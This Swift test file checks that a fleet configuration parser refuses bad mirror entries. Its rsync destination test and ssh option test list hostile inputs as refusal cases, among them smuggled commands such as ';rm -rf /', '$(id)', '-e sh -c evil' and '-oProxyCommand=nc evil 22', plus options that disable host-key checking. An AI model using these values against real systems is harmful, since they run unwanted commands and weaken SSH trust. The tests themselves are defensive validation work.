import FleetProtocol
import Foundation
import Inventory
import Testing

/// `[[mirrors]]`: what is read, and every hostile value (names, duplicates, keys, rsync destinations, ssh options
/// that would run a program or drop the host-key pinning) refused naming the mirror and the key.
extension FleetConfigurationTests {
    static func mirror(
        name: String = "mirror-a", pushTo: String = "root@mirror-a.example.org:/srv/fleet", extra: String = ""
    ) -> String {
        """
        [[mirrors]]
        name = "\(name)"
        address = "mirror-a.example.org"
        host_key = "\(keyA)"
        push_to = "\(pushTo)"
        \(extra)

        """
    }

    @Test func mirrorsAreReadWithTheirDefaults() throws {
        let configuration = try parse(
            Self.mirror(extra: "port = 2222\nssh_options = [\"-p\", \"2200\", \"-i\", \"/root/.ssh/fleet-mirror\"]")
                + Self.mirror(name: "mirror-b", pushTo: "10.0.0.2:/srv/fleet-chroots"))
        #expect(configuration.mirrors.map(\.name) == ["mirror-a", "mirror-b"])
        let first = try #require(configuration.mirror(named: "mirror-a"))
        #expect(first.port == 2222 && first.address == "mirror-a.example.org")
        #expect(first.pushTo.user == "root" && first.pushTo.host == "mirror-a.example.org")
        #expect(first.pushTo.path == "/srv/fleet")
        #expect(first.sshOptions == ["-p", "2200", "-i", "/root/.ssh/fleet-mirror"])
        #expect(first.hostKey.blob == (try parse(Self.mirror())).mirrors[0].hostKey.blob)
        let second = try #require(configuration.mirror(named: "mirror-b"))
        #expect(second.port == 22 && second.pushTo.user == nil && second.pushTo.sshDestination == "10.0.0.2")
        #expect(configuration.server.pushMirrors == false)
        #expect(try parse("[server]\npush_mirrors = true\n").server.pushMirrors)
        #expect(try parse("").mirrors.isEmpty)
    }

    @Test(arguments: [
        ("Mirror", "is not a server name"), ("-mirror", "is not a server name"),
        ("primary", "\"primary\" is reserved for this server"), ("a b", "is not a server name"),
        ("mirror@x", "is not a server name"),
    ])
    func badMirrorNamesAreRefused(name: String, expected: String) throws {
        let found = try problems(Self.mirror(name: name))
        #expect(found.count == 1 && found[0].contains("[[mirrors]] #1") && found[0].contains(expected), "\(found)")
    }

    @Test func duplicateMirrorNamesAndMissingKeysAreRefused() throws {
        let found = try problems(Self.mirror() + Self.mirror())
        #expect(found.count == 1 && found[0].contains("\"mirror-a\" is the name of an earlier mirror"), "\(found)")
        let missing = try problems("[[mirrors]]\nname = \"m\"\n")
        #expect(missing.count == 3, "\(missing)")
        for key in ["address", "host_key", "push_to"] {
            #expect(missing.contains { $0.contains("the key \"\(key)\" is required") }, "\(missing)")
        }
        let unknown = try problems(Self.mirror(extra: "proxy = \"x\""))
        #expect(unknown.count == 1 && unknown[0].contains("unknown key \"proxy\""), "\(unknown)")
        let notArray = try problems("mirrors = \"mirror-a\"\n")
        #expect(notArray.count == 1 && notArray[0].contains("array of tables"), "\(notArray)")
    }

    @Test func twoMirrorsAtOneAddressAndPortOrOneAtTheServersAreRefused() throws {
        // A copied entry renamed: the same server twice, named by both entries, with the fix.
        var found = try problems(Self.mirror() + Self.mirror(name: "mirror-b"))
        #expect(found.count == 1, "\(found)")
        for part in [
            "fleet.toml: [[mirrors]] #2 (", "mirror-b", "): mirror-a.example.org port 22 is already [[mirrors]] #1 (",
            "mirror-a",
            ")'s address and port; hosts would ask one server twice: give each mirror its own address or "
                + "port, or remove one",
        ] {
            #expect(found.first?.contains(part) == true, "\(part): \(found)")
        }
        // Host names compare without case, and the default port is the port.
        found = try problems(
            Self.mirror()
                + Self.mirror(name: "mirror-b", extra: "port = 22").replacingOccurrences(
                    of: "address = \"mirror-a.example.org\"", with: "address = \"MIRROR-A.example.org\""))
        #expect(found.count == 1 && found[0].contains("MIRROR-A.example.org port 22 is already"), "\(found)")
        #expect(try parse(Self.mirror() + Self.mirror(name: "mirror-b", extra: "port = 2222")).mirrors.count == 2)

        // At [server]'s address and port, given or by default (localhost, 22).
        found = try problems("[server]\naddress = \"mirror-a.example.org\"\n" + Self.mirror())
        #expect(found.count == 1, "\(found)")
        for part in [
            "fleet.toml: [[mirrors]] #1 (", "mirror-a",
            "): mirror-a.example.org port 22 is already [server]'s address "
                + "and port; a mirror must be another server than the one hosts connect to first: give it its own "
                + "address or port, or remove it",
        ] {
            #expect(found.first?.contains(part) == true, "\(part): \(found)")
        }
        found = try problems(
            Self.mirror().replacingOccurrences(
                of: "address = \"mirror-a.example.org\"", with: "address = \"localhost\""))
        #expect(found.count == 1 && found[0].contains("localhost port 22 is already [server]'s"), "\(found)")
        #expect(
            try parse("[server]\naddress = \"mirror-a.example.org\"\nport = 2200\n" + Self.mirror()).mirrors.count == 1)
    }

    @Test(arguments: [
        ("ssh-ed25519 not-base64!", "host_key"), ("", "host_key"),
        ("ssh-ed25519 AAAA\\nssh-ed25519 BBBB", "host_key"),
    ])
    func badMirrorHostKeysAreRefused(key: String, field: String) throws {
        let toml = Self.mirror().replacingOccurrences(of: Self.keyA, with: key)
        let found = try problems(toml)
        #expect(found.count == 1 && found[0].contains("key \"\(field)\""), "\(found)")
    }

    @Test(arguments: [
        ("-e sh -c evil:/srv/fleet", "starts with '-'"),
        ("--rsh=evil:/srv/fleet", "starts with '-'"),
        ("root@mirror:relative/path", "not absolute"),
        ("root@mirror", "no ':'"),
        ("mirror::module/fleet", "rsync daemon"),
        ("rsync://mirror/fleet", "rsync daemon"),
        ("root@-oProxyCommand=x:/srv/fleet", "the host"),
        ("root@mirror a:/srv/fleet", "the host"),
        ("ro ot@mirror:/srv/fleet", "the user"),
        ("-root@mirror:/srv/fleet", "starts with '-'"),
        ("root@mirror:/srv/fleet;rm -rf /", "path that may hold only"),
        ("root@mirror:/srv/$(id)", "path that may hold only"),
        ("root@mirror:/srv/../etc", "\"..\""),
        ("root@mirror:/", "names /"),
        ("root@mirror:/srv/fleet data", "path that may hold only"),
    ])
    func hostilePushDestinationsAreRefused(pushTo: String, expected: String) throws {
        let found = try problems(Self.mirror(pushTo: pushTo))
        #expect(found.count == 1, "\(found)")
        #expect(found.first?.contains("key \"push_to\"") == true && found.first?.contains(expected) == true, "\(found)")
    }

    @Test(arguments: [
        ["-oProxyCommand=nc evil 22"], ["-oProxyCommand=nc"], ["-o", "ProxyCommand=sh"], ["-oLocalCommand=id"],
        ["-oPermitLocalCommand=yes"], ["-oStrictHostKeyChecking=no"], ["-oUserKnownHostsFile=/dev/null"],
        ["-oKnownHostsCommand=/bin/sh"], ["-J", "jump"], ["-F", "/tmp/config"], ["-p"], ["-p", "0"],
        ["-p", "-oProxyCommand=x"], ["-i", "relative/key"], ["-i", "/root/my key"], ["-W", "x:1"],
        ["-oIdentityFile=~/.ssh/key"], ["-L", "1:x:2"], ["-R1:x:2"], ["-D1080"], ["-A"], ["-X"],
        ["-p 22"], ["-o", "Port=22\nProxyCommand=x"], [""], ["-oHostKeyAlias=x"], ["-l", "-x"], ["-v"],
    ])
    func hostileSSHOptionsAreRefused(options: [String]) throws {
        let array =
            "[" + options.map { "\"\($0.replacingOccurrences(of: "\n", with: "\\n"))\"" }.joined(separator: ", ") + "]"
        let found = try problems(Self.mirror(extra: "ssh_options = \(array)"))
        #expect(found.count == 1 && found.first?.contains("key \"ssh_options\"") == true, "\(options): \(found)")
    }

    @Test func allowedSSHOptions() throws {
        let allowed: [[String]] = [
            ["-p", "2222"], ["-p2222"], ["-i", "/root/.ssh/id"], ["-oConnectTimeout=5"], ["-o", "IdentitiesOnly=yes"],
            ["-4"], ["-C"], ["-o", "ServerAliveInterval=10", "-l", "fleet_push"], ["-oport=2222"],
        ]
        for options in allowed {
            #expect(MirrorConfiguration.sshOptionProblem(options) == nil, "\(options)")
        }
    }
}
